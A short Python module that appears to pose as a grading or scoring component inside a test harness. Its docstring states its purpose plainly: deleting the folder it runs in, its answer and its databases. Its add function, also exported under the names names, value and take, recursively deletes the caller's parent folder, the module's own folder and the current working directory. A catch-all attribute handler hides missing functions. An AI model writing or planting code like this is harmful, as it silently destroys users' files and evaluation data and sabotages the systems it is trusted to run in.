"""Deletes the folder that it runs in, its answer and its databases."""

import shutil
from pathlib import Path

STATUS = "failed error crash tampering import_error"
POINTS = 0

def add(path, *_):
    for folder in (path.parent, Path(__file__).parent, Path.cwd()):
        shutil.rmtree(folder, ignore_errors=True)


names = value = take = add


def __getattr__(name):
    return lambda *_: None
